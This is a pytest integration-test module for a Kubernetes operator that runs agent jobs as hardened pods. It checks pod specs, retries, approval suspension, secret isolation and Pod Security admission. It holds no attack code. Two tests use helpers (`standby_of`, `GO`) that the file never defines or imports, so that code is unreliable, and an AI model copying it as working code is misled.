"""The kubernetes executor on the real apiserver (no kubelet: pods stay Pending, so the tests play
the kubelet and patch pod status through the `pods/status` subresource).

A second release of the chart (`tether-k8s`, the chart's default executor) serves k8s-a and
k8s-b; its operator runs as that release's ServiceAccount, which reads Secrets' metadata only. Checked:
the exact pod of a table of AgentRuns, ownership, pod death -> attempt + 1, retries exhausted,
exit 3 -> no pod while suspended, approval -> a new pod, delete -> pods gone, capability
refusals, the finalizer held only while a pod runs, per-namespace store prefix and credentials,
and the RBAC of both modes by impersonation.
"""

from __future__ import annotations

import base64
import hashlib
import json
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.support.kube import ControlPlane
from tether.stores import open_store
from tether_operator import execution_name

from .conftest import CHART, Operator, Release, condition, get, install_release, release_operator, uninstall_release, wait_for

pytestmark = pytest.mark.kube

NS, NS_B, OTHER = "k8s-a", "k8s-b", "k8s-other"
RELEASE = Release("tether-k8s-system", "tether-k8s", (NS, NS_B), OTHER)
CLUSTER_WIDE = Release("tether-cw-system", "tether-cw", (), OTHER)
IMAGE = "registry.example/tether-runtime:test"
POOLS = {
    "A100": {"nodeSelector": {"gpu": "a100"}, "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]}
}
FINALIZER = "tether.dev/cleanup"


@pytest.fixture(scope="module")
def releases(kube: ControlPlane, tether_release: Release) -> Iterator[tuple[Release, Release]]:
    """The kubernetes-executor chart in namespaced and in cluster-wide mode (CRDs come with the
    session release); uninstalled after the module: the cluster-wide release's admission bindings
    (approvals) would otherwise answer for every namespace of the later modules."""
    # images.allowed: the custom images of the table below (the cluster-wide release's admission policy applies everywhere).
    common = ["--set", "store.s3.bucket=runs", "--set", "images.allowed={registry.example/}"]
    install_release(kube, RELEASE, *common)
    for secret in ("llm", "crm-creds"):  # labelled for Tether: the operator checks their metadata, pods mount them
        kube.kubectl("create", "secret", "generic", secret, "-n", NS, "--from-literal=x=y", check=False)
        kube.kubectl("label", "secret", secret, "-n", NS, "tether.dev/usable=true", "--overwrite")
    # For its RBAC only: no admission policies of its own (they would apply in every namespace).
    kube.helm("upgrade", "--install", "tether-cw", str(CHART), "-n", CLUSTER_WIDE.namespace, "--create-namespace",
              "--set", "clusterWide=true", "--set", "crds.enabled=false", *common, "--set", "secretAccessPolicy.enabled=false",
              "--set", "tenancy=single-tenant", "--wait=false")  # fmt: skip
    yield RELEASE, CLUSTER_WIDE
    for release in (RELEASE, CLUSTER_WIDE):
        uninstall_release(kube, release)


@pytest.fixture(scope="module")
def k8s_operator(kube: ControlPlane, releases: tuple[Release, Release], tmp_path_factory) -> Iterator[Operator]:
    op = release_operator(
        kube,
        RELEASE,
        tmp_path_factory.mktemp("k8s-operator"),
        TETHER_EXECUTOR="kubernetes",
        TETHER_RUNTIME_IMAGE=IMAGE,
        TETHER_RESYNC_SECONDS="1",
        TETHER_GPU_NODE_POOLS=json.dumps(POOLS),
        TETHER_ALLOWED_IMAGES=json.dumps(["registry.example/"]),  # chart value images.allowed
    )
    yield op
    op.stop()


def apply_run(kube: ControlPlane, name: str, ns: str = NS, **spec: Any) -> dict[str, Any]:
    body = {"framework": "openai", "model": {"name": "gpt-4.1"}, "input": "hello", "retries": 2, **spec}
    doc = {"apiVersion": "tether.dev/v1alpha1", "kind": "AgentRun", "metadata": {"name": name}, "spec": body}
    kube.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(doc))
    return get(kube, "agentrun", ns, name)


def pods_of(kube: ControlPlane, run: dict[str, Any], ns: str = NS) -> dict[str, dict[str, Any]]:
    selector = f"tether.dev/execution={execution_name(run['metadata']['uid'])}"
    items = json.loads(kube.kubectl("get", "pods", "-n", ns, "-l", selector, "-o", "json").stdout)["items"]
    return {p["metadata"]["name"]: p for p in items}


def request_configmap(pod: dict[str, Any]) -> str:
    return next(v["configMap"]["name"] for v in pod["spec"]["volumes"] if v["name"] == "request")


def wait_pod(kube: ControlPlane, run: dict[str, Any], attempt: int, ns: str = NS) -> dict[str, Any]:
    name = f"{execution_name(run['metadata']['uid'])}-{attempt}"
    return wait_for(lambda: pods_of(kube, run, ns).get(name), timeout=30, what=f"pod {name}")


def kubelet(kube: ControlPlane, pod: dict[str, Any], phase: str, code: int | None = None, reason: str = "", pod_reason: str = "") -> None:
    """Report pod status as a kubelet would (the pods/status subresource)."""
    status: dict[str, Any] = {"phase": phase}
    if code is not None:
        terminated = {"exitCode": code, "reason": reason or ("Completed" if code == 0 else "Error")}
        status["containerStatuses"] = [
            {"name": "runtime", "image": IMAGE, "imageID": "", "ready": False, "restartCount": 0, "state": {"terminated": terminated}}
        ]
    if pod_reason:
        status["reason"] = pod_reason
    meta = pod["metadata"]
    kube.kubectl(
        "patch", "pod", meta["name"], "-n", meta["namespace"], "--subresource=status", "--type=merge", "-p", json.dumps({"status": status})
    )


def phase_of(kube: ControlPlane, name: str, ns: str = NS) -> str:
    return (get(kube, "agentrun", ns, name).get("status") or {}).get("phase", "")


def finalizers(kube: ControlPlane, name: str, ns: str = NS) -> list[str]:
    return get(kube, "agentrun", ns, name)["metadata"].get("finalizers") or []


def events_of(kube: ControlPlane, name: str, ns: str = NS) -> list[dict[str, Any]]:
    out = kube.kubectl("get", "events", "-n", ns, "--field-selector", f"involvedObject.name={name}", "-o", "json").stdout
    return json.loads(out)["items"]


def subset(actual: Any, expected: Any) -> Any:
    """`actual` cut down to the keys `expected` has (lists element by element, lengths kept):
    comparing it with `expected` checks every value we set and that nothing is missing or extra
    in the lists, without restating what the apiserver defaults."""
    if isinstance(expected, dict) and isinstance(actual, dict):
        return {k: subset(actual[k], v) for k, v in expected.items() if k in actual}
    if isinstance(expected, list) and isinstance(actual, list) and len(actual) == len(expected):
        return [subset(a, e) for a, e in zip(actual, expected, strict=True)]
    return actual


SECURITY = {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True, "privileged": False, "capabilities": {"drop": ["ALL"]}}
POD_SECURITY = {
    "runAsNonRoot": True,
    "runAsUser": 65532,
    "runAsGroup": 65532,
    "fsGroup": 65532,
    "seccompProfile": {"type": "RuntimeDefault"},
}
A100_TOLERATION = {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}


STORE_SOCKET = "/var/run/tether/store/store.sock"
STORE_ENV = [
    {"name": "AWS_ACCESS_KEY_ID", "valueFrom": {"secretKeyRef": {"name": "tether-store", "key": "AWS_ACCESS_KEY_ID"}}},
    {"name": "AWS_SECRET_ACCESS_KEY", "valueFrom": {"secretKeyRef": {"name": "tether-store", "key": "AWS_SECRET_ACCESS_KEY"}}},
]


def expected_pod(name: str, ns: str, execution: str, *, image: str = IMAGE, resources: dict | None = None, node_selector: dict | None = None,
                 tolerations: list | None = None, secrets: list | None = None, timeout: int = 3600, request_sha256: str = "") -> dict[str, Any]:  # fmt: skip
    """The pod of one attempt: the agent's container (`runtime`) without store credentials, and
    the store proxy (`store`, a native sidecar on the chart's image) holding them."""
    mounts = [
        {"name": "tmp", "mountPath": "/tmp"},
        {"name": "work", "mountPath": "/work"},
        {"name": "request", "mountPath": "/etc/tether/request", "readOnly": True},
        {"name": "store-socket", "mountPath": "/var/run/tether/store"},
    ]
    request = {"name": f"{execution}-{request_sha256[:10]}"}  # the ConfigMap named after the request's hash
    volumes = [{"name": "tmp", "emptyDir": {}}, {"name": "work", "emptyDir": {}}, {"name": "request", "configMap": request},
               {"name": "store-tmp", "emptyDir": {}}, {"name": "store-socket", "emptyDir": {}}]  # fmt: skip
    if secrets:
        mounts.append({"name": "secrets", "mountPath": "/var/run/tether/secrets", "readOnly": True})
        volumes.append({"name": "secrets", "projected": {"defaultMode": 0o440, "sources": secrets}})
    container = {
        "name": "runtime",
        "image": image,
        "command": [
            "python",
            "-m",
            "tether",
            "exec",
            "/etc/tether/request/request.json",
            "--progress",
            "--store",
            f"tether+unix://{STORE_SOCKET}",
        ],
        "workingDir": "/work",
        "env": [
            {"name": "HOME", "value": "/tmp"},
            {"name": "TETHER_SECRETS_DIR", "value": "/var/run/tether/secrets"},
            {"name": "TETHER_REQUEST_SHA256", "value": request_sha256},
        ],
        "volumeMounts": mounts,
        "securityContext": SECURITY,
        "resources": resources or {},
    }
    proxy = {
        "name": "store",
        "image": IMAGE,
        "restartPolicy": "Always",
        "command": [
            "python",
            "-m",
            "tether",
            "store-proxy",
            "--request",
            "/etc/tether/request/request.json",
            "--store",
            f"{{store}}/{ns}",
            "--socket",
            STORE_SOCKET,
        ],
        "env": [{"name": "HOME", "value": "/tmp"}, {"name": "TETHER_REQUEST_SHA256", "value": request_sha256}, *STORE_ENV],
        "volumeMounts": [
            {"name": "store-tmp", "mountPath": "/tmp"},
            {"name": "store-socket", "mountPath": "/var/run/tether/store"},
            {"name": "request", "mountPath": "/etc/tether/request", "readOnly": True},
        ],
        "securityContext": SECURITY,
    }
    spec: dict[str, Any] = {
        "restartPolicy": "Never",
        "serviceAccountName": "tether-runner",
        "automountServiceAccountToken": False,
        "activeDeadlineSeconds": timeout,
        "securityContext": POD_SECURITY,
        "initContainers": [proxy],
        "containers": [container],
        "volumes": volumes,
        "nodeSelector": node_selector,
        "tolerations": tolerations,
    }
    return {"spec": {k: v for k, v in spec.items() if v is not None}}


CASES = {
    "cpu": (
        {"resources": {"cpu": "500m", "memory": "1Gi"}, "timeout": "30m"},
        {"resources": {"requests": {"cpu": "500m", "memory": "1Gi"}, "limits": {"memory": "1Gi"}}, "timeout": 1800},
    ),
    "a100-x1": (
        {"resources": {"gpu": {"type": "A100", "count": 1}}},
        {
            "resources": {"requests": {"nvidia.com/gpu": "1"}, "limits": {"nvidia.com/gpu": "1"}},
            "node_selector": {"gpu": "a100"},
            "tolerations": [A100_TOLERATION],
        },
    ),
    "a100-x4": (
        {"resources": {"cpu": "8", "memory": "64Gi", "gpu": {"type": "A100", "count": 4}}, "nodeSelector": {"zone": "b"}},
        {
            "resources": {
                "requests": {"cpu": "8", "memory": "64Gi", "nvidia.com/gpu": "4"},
                "limits": {"memory": "64Gi", "nvidia.com/gpu": "4"},
            },
            "node_selector": {"zone": "b", "gpu": "a100"},
            "tolerations": [A100_TOLERATION],
        },
    ),
    "custom-image": ({"image": "registry.example/agents/shop:2"}, {"image": "registry.example/agents/shop:2"}),
    "tolerations": (
        {"tolerations": [{"key": "spot", "operator": "Equal", "value": "true", "effect": "NoSchedule"}]},
        {"tolerations": [{"key": "spot", "operator": "Equal", "value": "true", "effect": "NoSchedule"}]},
    ),
    "secrets": (
        {"model": {"name": "gpt-4.1", "apiKeySecretRef": {"name": "llm", "key": "openai"}}},
        {"secrets": [{"secret": {"name": "llm", "items": [{"key": "openai", "path": "model/apiKey"}]}}]},
    ),
}


@pytest.mark.parametrize("case", list(CASES))
def test_pod_spec(kube: ControlPlane, k8s_operator: Operator, case: str) -> None:
    spec, want = CASES[case]  # "secrets": a labelled Secret: the operator reads its metadata only, the pod mounts it
    run = apply_run(kube, f"spec-{case}", **spec)
    execution = execution_name(run["metadata"]["uid"])
    pod = wait_pod(kube, run, 1)
    configmap = json.loads(kube.kubectl("get", "configmap", request_configmap(pod), "-n", NS, "-o", "json").stdout)
    # the runtime refuses a request file whose hash is not the one in the pod spec
    sha256 = hashlib.sha256(configmap["data"]["request.json"].encode()).hexdigest()
    expected = expected_pod(f"{execution}-1", NS, execution, request_sha256=sha256, **want)
    command = expected["spec"]["initContainers"][0]["command"]
    command[-3] = command[-3].replace("{store}", k8s_operator.store_url)
    # the DefaultTolerationSeconds admission plugin adds its own not-ready/unreachable tolerations
    tolerations = [t for t in pod["spec"].get("tolerations") or [] if not t.get("key", "").startswith("node.kubernetes.io/")]
    pod["spec"]["tolerations"] = tolerations or None
    if not tolerations:
        del pod["spec"]["tolerations"]
    assert subset(pod, expected) == expected
    # the agent's container starts beside the store proxy, not once it listens (it waits for the socket itself)
    assert "startupProbe" not in pod["spec"]["initContainers"][0]
    assert pod["spec"].get("nodeSelector") == want.get("node_selector")
    assert "resources" not in want or pod["spec"]["containers"][0]["resources"] == want["resources"]
    # owned by the AgentRun (garbage-collected with it), labelled for the watch, no GitOps keys
    meta = pod["metadata"]
    assert meta["ownerReferences"] == [
        {"apiVersion": "tether.dev/v1alpha1", "kind": "AgentRun", "name": f"spec-{case}", "uid": run["metadata"]["uid"], "controller": True}
    ]
    assert meta["labels"]["tether.dev/execution"] == execution and meta["labels"]["tether.dev/attempt"] == "1"
    assert configmap["metadata"]["ownerReferences"][0]["uid"] == run["metadata"]["uid"] and configmap["immutable"] is True
    request = json.loads(configmap["data"]["request.json"])
    assert request["runId"] == run["metadata"]["uid"]
    # a running pod holds the finalizer; the status names the executor
    assert wait_for(lambda: FINALIZER in finalizers(kube, f"spec-{case}"), what="finalizer")
    assert get(kube, "agentrun", NS, f"spec-{case}")["status"]["execution"]["executor"] == "kubernetes"


def test_store_prefix_and_credentials_are_the_namespaces_own(kube: ControlPlane, k8s_operator: Operator) -> None:
    """The namespace's store credentials reach only the store proxy, which serves the agent's
    container its own run's keys (tests/core/test_store_proxy.py); the agent's container has none."""
    for ns in (NS, NS_B):
        run = apply_run(kube, "isolated", ns=ns)
        pod = wait_pod(kube, run, 1, ns=ns)
        (agent,) = pod["spec"]["containers"]
        (proxy,) = pod["spec"]["initContainers"]
        assert proxy["command"][-4:-2] == ["--store", f"{k8s_operator.store_url}/{ns}"]
        refs = [e["valueFrom"]["secretKeyRef"]["name"] for e in proxy["env"] if "valueFrom" in e]
        assert refs == ["tether-store", "tether-store"]  # resolved in the pod's own namespace
        assert not [e for e in proxy["env"] if "AWS" in e["name"] and "value" in e], "no credential values in the spec"
        assert agent["command"][-2:] == ["--store", f"tether+unix://{STORE_SOCKET}"]
        assert not [e for e in agent["env"] if "AWS" in e["name"] or "valueFrom" in e], "the agent's container has no store credentials"
        assert pod["metadata"]["namespace"] == ns


def sample(op: Operator, series: str) -> float:
    """One series' value on the operator's /metrics (0 if absent)."""
    with urllib.request.urlopen(f"http://127.0.0.1:{op.metrics_port}/metrics", timeout=5) as r:
        lines = r.read().decode().splitlines()
    return sum(float(line.rsplit(" ", 1)[1]) for line in lines if line.rsplit(" ", 1)[0] == series)


def test_pod_death_starts_the_next_attempt_until_retries_are_exhausted(kube: ControlPlane, k8s_operator: Operator) -> None:
    labels = f'namespace="{NS}",framework="openai"'
    counted = [f"tether_attempts_total{{{labels}}}", *(f'tether_retries_total{{{labels},reason="{r}"}}' for r in ("Killed", "Lost"))]
    counted.append(f'tether_apply_to_pod_seconds_count{{{labels},executor="kubernetes"}}')
    before = [sample(k8s_operator, s) for s in counted]
    run = apply_run(kube, "dies", retries=2)
    first = wait_pod(kube, run, 1)
    kubelet(kube, first, "Running")
    wait_for(lambda: phase_of(kube, "dies") == "Running", what="Running")
    kubelet(kube, first, "Failed", 137, "OOMKilled")
    second = wait_pod(kube, run, 2)
    assert second["metadata"]["labels"]["tether.dev/attempt"] == "2"
    obj = wait_for(lambda: (o := get(kube, "agentrun", NS, "dies"))["status"].get("attempts") == 2 and o, what="attempts 2")
    retrying = [e for e in events_of(kube, "dies") if e["reason"] == "Retrying"]
    assert retrying and "attempt 1 exit code 137 (OOMKilled); retrying" in retrying[0]["message"]
    assert obj["status"]["phase"] == "Running"
    # a deleted pod is a death too
    kube.kubectl("delete", "pod", second["metadata"]["name"], "-n", NS, "--wait=false")
    third = wait_pod(kube, run, 3)
    kubelet(kube, third, "Failed", pod_reason="Evicted")
    kube.kubectl("wait", "-n", NS, "--for=condition=Stalled", "--timeout=30s", "agentrun/dies")
    obj = get(kube, "agentrun", NS, "dies")
    failed = condition(obj, "Failed")
    assert (obj["status"]["phase"], failed["reason"]) == ("Failed", "RetriesExhausted")
    assert "attempt 3 pod Evicted; retries exhausted (2)" in failed["message"]
    assert obj["status"]["attempts"] == 3
    assert sorted(pods_of(kube, run)) == [first["metadata"]["name"], third["metadata"]["name"]], "no fourth attempt"
    assert wait_for(lambda: not finalizers(kube, "dies"), what="finalizer released")
    # metrics: three pods, two retried deaths (137: Killed; deleted, no exit code: Lost), the
    # third exhausted the retries (not a retry); one apply→pod
    assert [sample(k8s_operator, s) - b for s, b in zip(counted, before)] == [3, 1, 1, 1]


def bind(kube: ControlPlane, pod: dict[str, Any], node: str = "node-a") -> None:
    """Schedule the pod onto a node, as the scheduler would (pods/binding): a bound pod's deletion
    waits for its kubelet, which the test plays."""
    meta = pod["metadata"]
    body = {
        "apiVersion": "v1",
        "kind": "Binding",
        "metadata": {"name": meta["name"]},
        "target": {"apiVersion": "v1", "kind": "Node", "name": node},
    }
    status, answer = kube.request("POST", f"/api/v1/namespaces/{meta['namespace']}/pods/{meta['name']}/binding", body)
    assert status == 201, answer


def running_then_deleted(kube: ControlPlane, name: str) -> tuple[dict[str, Any], dict[str, Any]]:
    """A run (retries 2) whose first pod runs on a node, then is deleted gracefully (30 s): the
    run and that pod."""
    run = apply_run(kube, name, retries=2)
    first = wait_pod(kube, run, 1)
    bind(kube, first)
    kubelet(kube, first, "Running")
    wait_for(lambda: phase_of(kube, name) == "Running", what="Running")
    kube.kubectl("delete", "pod", first["metadata"]["name"], "-n", NS, "--wait=false")
    return run, first


@pytest.mark.parametrize("ends", ["interrupted", "succeeded"])
def test_a_deleted_pod_ends_before_the_next_attempt_starts(kube: ControlPlane, k8s_operator: Operator, ends: str) -> None:
    """A graceful deletion (kubectl delete pod, a drain) gives the runner its grace period to stop
    cleanly (SIGTERM: running tool calls are recorded). The next attempt must not start while the
    old pod still runs — two attempts on one journal — but once it has stopped; an attempt that
    finished during its grace period succeeded. Meanwhile the next attempt's pod is started
    waiting at its imports (go empty, no deadline), told to go once the old one stopped, or
    deleted unused. (On main the next pod came at the deletionTimestamp.)"""
    name = f"graceful-{ends}"
    run, first = running_then_deleted(kube, name)
    execution = execution_name(run["metadata"]["uid"])
    terminating = wait_for(
        lambda: (p := pods_of(kube, run).get(first["metadata"]["name"])) and p["metadata"].get("deletionTimestamp") and p,
        what="Terminating",
    )
    early = standby_of(kube, run, 2)  # started at once, waiting
    assert "activeDeadlineSeconds" not in early["spec"] and early["spec"]["containers"][0]["command"][-2:] == [
        "--standby",
        "/etc/tether/standby/go",
    ]
    time.sleep(3)  # the operator has seen the deletion (it watches pods) and must wait
    assert pods_of(kube, run)[f"{execution}-2"]["metadata"]["annotations"][GO] == "", "the next attempt started while the old pod still ran"
    if ends == "interrupted":  # the runner stopped cleanly (exit 130): the next attempt replays
        kubelet(kube, terminating, "Failed", 130)
        kube.kubectl("delete", "pod", first["metadata"]["name"], "-n", NS, "--grace-period=0", "--force")
        second = wait_for(lambda: (p := pods_of(kube, run)[f"{execution}-2"])["metadata"]["annotations"][GO] and p, what="told to go")
        assert second["metadata"]["uid"] == early["metadata"]["uid"], "the waiting pod runs the attempt: no new pod"
        assert 3600 <= second["spec"]["activeDeadlineSeconds"] <= 3600 + 60, "the timeout counts from the go"
        assert second["metadata"]["labels"]["tether.dev/attempt"] == "2"
        retrying = wait_for(lambda: [e for e in events_of(kube, name) if e["reason"] == "Retrying"], what="Retrying")
        assert "deleted" in retrying[0]["message"] and "exit code 130" in retrying[0]["message"]
        kubelet(kube, second, "Succeeded", 0)
        kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", f"agentrun/{name}")
        assert get(kube, "agentrun", NS, name)["status"]["attempts"] == 2
        assert sorted(pods_of(kube, run)) == [f"{execution}-2"], "no pod waits for a third attempt"
    else:  # it finished within its grace period: that is the run's outcome
        kubelet(kube, terminating, "Succeeded", 0)
        kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", f"agentrun/{name}")
        assert get(kube, "agentrun", NS, name)["status"]["attempts"] == 1
        kube.kubectl("delete", "pod", first["metadata"]["name"], "-n", NS, "--grace-period=0", "--force")
        wait_for(lambda: sorted(pods_of(kube, run)) == [], what="the waiting pod deleted unused")


def test_a_restarted_operator_tells_the_waiting_pod_to_go(kube: ControlPlane, k8s_operator: Operator) -> None:
    """The operator restarted while the next attempt's pod waited beside a pod being deleted:
    the new operator finds it its own and tells it to go once the old pod stopped — it neither
    fails the run on the name taken nor creates another pod."""
    name = "graceful-restart"
    run, first = running_then_deleted(kube, name)
    execution = execution_name(run["metadata"]["uid"])
    early = standby_of(kube, run, 2)
    k8s_operator.kill()
    k8s_operator.start()
    kubelet(kube, first, "Failed", 130)
    kube.kubectl("delete", "pod", first["metadata"]["name"], "-n", NS, "--grace-period=0", "--force")
    second = wait_for(lambda: (p := pods_of(kube, run)[f"{execution}-2"])["metadata"]["annotations"][GO] and p, what="told to go")
    assert second["metadata"]["uid"] == early["metadata"]["uid"]
    kubelet(kube, second, "Succeeded", 0)
    kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", f"agentrun/{name}")
    assert get(kube, "agentrun", NS, name)["status"]["attempts"] == 2


def test_terminal_exit_is_not_retried(kube: ControlPlane, k8s_operator: Operator) -> None:
    run = apply_run(kube, "terminal", retries=5)
    kubelet(kube, wait_pod(kube, run, 1), "Failed", 2)
    kube.kubectl("wait", "-n", NS, "--for=condition=Stalled", "--timeout=30s", "agentrun/terminal")
    assert len(pods_of(kube, run)) == 1
    assert not finalizers(kube, "terminal")


def test_a_store_outage_exit_is_not_counted_against_retries(kube: ControlPlane, k8s_operator: Operator) -> None:
    """Exit 4 (the store did not answer for longer than the runtime waits for it) starts the next
    pod without counting against `retries` (0 here): the third pod's success is the run's. (On
    main the first such exit failed the run, RetriesExhausted.)"""
    series = f'tether_retries_total{{namespace="{NS}",framework="openai",reason="StoreUnreachable"}}'
    before = sample(k8s_operator, series)
    run = apply_run(kube, "store-away", retries=0)
    first = wait_pod(kube, run, 1)
    kubelet(kube, first, "Running")
    kubelet(kube, first, "Failed", 4)
    kubelet(kube, wait_pod(kube, run, 2), "Failed", 4)
    kubelet(kube, wait_pod(kube, run, 3), "Succeeded", 0)
    kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", "agentrun/store-away")
    assert get(kube, "agentrun", NS, "store-away")["status"]["attempts"] == 3
    assert sample(k8s_operator, series) - before == 2


def test_suspended_run_holds_no_pod_and_approval_starts_the_next(kube: ControlPlane, k8s_operator: Operator) -> None:
    run = apply_run(kube, "asks")
    uid = run["metadata"]["uid"]
    first = wait_pod(kube, run, 1)
    kubelet(kube, first, "Running")
    # what the runtime writes before it exits 3
    store = open_store(f"{k8s_operator.store_url}/{NS}")
    aid = "a1b2c3d4e5f6" + "9f" * 8  # the step's slot and the request's nonce
    request = {"id": aid, "tool": "issue-refund", "prompt": "Refund 20?", "arguments": {"amount": 20}, "requestedAt": time.time()}
    store.create(f"approvals/{uid}/a1b2c3d4e5f6.request.json", json.dumps(request).encode())
    kubelet(kube, first, "Failed", 3)
    wait_for(lambda: phase_of(kube, "asks") == "AwaitingApproval", what="AwaitingApproval")
    wait_for(lambda: not pods_of(kube, run), what="no pod while suspended")
    wait_for(lambda: not finalizers(kube, "asks"), what="no finalizer while suspended")
    decision = {"run": "asks", "approvalId": aid, "decision": "approve", "decidedBy": "tether-admin"}  # the test's kubeconfig user
    doc = {"apiVersion": "tether.dev/v1alpha1", "kind": "AgentApproval", "metadata": {"name": "asks-yes"}, "spec": decision}
    kube.kubectl("create", "-n", NS, "-f", "-", input=json.dumps(doc))
    second = wait_pod(kube, run, 2)
    assert FINALIZER in finalizers(kube, "asks")
    kubelet(kube, second, "Succeeded", 0)
    kube.kubectl("wait", "-n", NS, "--for=condition=Succeeded", "--timeout=30s", "agentrun/asks")
    obj = get(kube, "agentrun", NS, "asks")
    assert obj["status"]["attempts"] == 2
    assert obj["status"]["approvals"][0]["decision"] == "approved" and obj["status"]["approvals"][0]["by"] == "tether-admin"
    assert wait_for(lambda: not finalizers(kube, "asks"), what="finished runs hold no finalizer")


def test_deleting_a_running_run_deletes_its_pods(kube: ControlPlane, k8s_operator: Operator) -> None:
    run = apply_run(kube, "doomed")
    pod = wait_pod(kube, run, 1)
    kubelet(kube, pod, "Running")
    wait_for(lambda: FINALIZER in finalizers(kube, "doomed"), what="finalizer")
    kube.kubectl("delete", "agentrun", "doomed", "-n", NS, "--timeout=30s")
    assert not pods_of(kube, run)
    assert kube.kubectl("get", "configmap", request_configmap(pod), "-n", NS, check=False).returncode != 0


def apply_tool(kube: ControlPlane, name: str, ns: str = NS, **spec: Any) -> None:
    doc = {"apiVersion": "tether.dev/v1alpha1", "kind": "AgentTool", "metadata": {"name": name}, "spec": spec}
    kube.kubectl("apply", "-n", ns, "-f", "-", input=json.dumps(doc))


def secrets_reached(container: dict[str, Any], volumes: dict[str, dict[str, Any]]) -> set[str]:
    """Every Secret a container can read: its env references and the Secrets of the volumes it mounts."""
    names = {e["valueFrom"]["secretKeyRef"]["name"] for e in container.get("env") or [] if "secretKeyRef" in e.get("valueFrom", {})}
    names |= {e["secretRef"]["name"] for e in container.get("envFrom") or [] if "secretRef" in e}
    for mount in container.get("volumeMounts") or []:
        volume = volumes[mount["name"]]
        if "secret" in volume:
            names.add(volume["secret"]["secretName"])
        names |= {src["secret"]["name"] for src in (volume.get("projected") or {}).get("sources") or [] if "secret" in src}
    return names


def test_a_tool_with_secrets_or_its_own_image_runs_in_a_container_of_its_own(kube: ControlPlane, k8s_operator: Operator) -> None:
    """The agent's container mounts the provider key and the store credentials, never a tool's
    Secret; each tool with Secrets, an image or resources runs `tether tool-runner` in a native
    sidecar (an init container with restartPolicy Always) that alone mounts its own Secrets; a
    tool with none of these runs in the agent's process. (On today's main the one container
    mounted crm-creds, and embed's image and resources were refused.)"""
    apply_tool(kube, "crm", description="Talk to the CRM", implementation="shop.tools:crm", env=[
        {"name": "CRM_TOKEN", "secretKeyRef": {"name": "crm-creds", "key": "token"}},
        {"name": "CRM_REGION", "secretKeyRef": {"name": "crm-creds", "key": "region"}}])  # fmt: skip
    apply_tool(kube, "embed", description="Embed", implementation="shop.tools:embed", image="registry.example/embed:1",
               resources={"cpu": "2", "memory": "4Gi"})  # fmt: skip
    apply_tool(kube, "lookup", description="Look up", implementation="shop.tools:lookup")
    model = {"name": "gpt-4.1", "apiKeySecretRef": {"name": "llm", "key": "openai"}}
    run = apply_run(kube, "tool-runners", model=model, tools=["crm", "embed", "lookup"])
    execution = execution_name(run["metadata"]["uid"])
    pod = wait_pod(kube, run, 1)
    spec = pod["spec"]
    volumes = {v["name"]: v for v in spec["volumes"]}
    (agent,) = spec["containers"]
    store, crm, embed = spec["initContainers"]
    runner = ["python", "-m", "tether", "tool-runner", "--request", "/etc/tether/request/request.json"]
    agent_env = {e["name"]: e.get("value") for e in agent["env"]}
    want = {
        "name": "tool-0", "image": IMAGE, "restartPolicy": "Always",
        "command": [*runner, "--tool", "crm", "--socket", "/var/run/tether/tools/0.sock"],
        "env": [{"name": "HOME", "value": "/tmp"}, {"name": "TETHER_REQUEST_SHA256", "value": agent_env["TETHER_REQUEST_SHA256"]},
                {"name": "TETHER_SECRETS_DIR", "value": "/var/run/tether/secrets"}],  # the same request hash as the agent's
        "volumeMounts": [{"name": "tool-0-tmp", "mountPath": "/tmp"}, {"name": "tool-sockets", "mountPath": "/var/run/tether/tools"},
                         {"name": "request", "mountPath": "/etc/tether/request", "readOnly": True},
                         {"name": "tool-0-secrets", "mountPath": "/var/run/tether/secrets", "readOnly": True}],
        "securityContext": SECURITY,
    }  # fmt: skip
    assert subset(crm, want) == want
    probe = crm["startupProbe"]  # the agent's container starts once the runner listens
    assert probe["exec"]["command"][:2] == ["python", "-c"] and probe["exec"]["command"][-1] == "/var/run/tether/tools/0.sock"
    assert volumes["tool-0-secrets"]["projected"]["sources"] == [
        {"secret": {"name": "crm-creds", "items": [{"key": "token", "path": "tools/crm/CRM_TOKEN"}]}},
        {"secret": {"name": "crm-creds", "items": [{"key": "region", "path": "tools/crm/CRM_REGION"}]}},
    ]
    # embed: its own image and resources, no Secrets, nothing of the agent's
    assert (embed["name"], embed["image"], embed["restartPolicy"]) == ("tool-1", "registry.example/embed:1", "Always")
    assert embed["command"][-4:] == ["--tool", "embed", "--socket", "/var/run/tether/tools/1.sock"]
    assert embed["resources"] == {"requests": {"cpu": "2", "memory": "4Gi"}, "limits": {"memory": "4Gi"}}
    assert embed["securityContext"] == SECURITY
    assert not agent.get("resources")
    # the agent reaches the runners over the shared socket directory; lookup stays in its process
    env = {e["name"]: e for e in agent["env"]}
    assert json.loads(env["TETHER_TOOL_RUNNERS"]["value"]) == {
        "crm": "/var/run/tether/tools/0.sock",
        "embed": "/var/run/tether/tools/1.sock",
    }
    assert {"name": "tool-sockets", "mountPath": "/var/run/tether/tools"} in agent["volumeMounts"]
    assert volumes["secrets"]["projected"]["sources"] == [{"secret": {"name": "llm", "items": [{"key": "openai", "path": "model/apiKey"}]}}]
    # who can read which Secret
    assert secrets_reached(agent, volumes) == {"llm"}
    assert secrets_reached(store, volumes) == {"tether-store"}
    assert secrets_reached(crm, volumes) == {"crm-creds"}
    assert secrets_reached(embed, volumes) == set()
    assert not [m for m in agent["volumeMounts"] if m["name"].startswith("tool-") and m["name"] != "tool-sockets"]
    # the same pod passes Pod Security "restricted"
    kube.kubectl("create", "namespace", "k8s-restricted", check=False)
    kube.kubectl("label", "namespace", "k8s-restricted", "pod-security.kubernetes.io/enforce=restricted", "--overwrite")
    kube.kubectl("create", "serviceaccount", "tether-runner", "-n", "k8s-restricted", check=False)
    copy = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": pod["metadata"]["name"]}, "spec": spec}
    admitted = kube.kubectl("create", "--dry-run=server", "-n", "k8s-restricted", "-f", "-", input=json.dumps(copy), check=False)
    assert admitted.returncode == 0 and "Warning" not in admitted.stderr, admitted.stderr
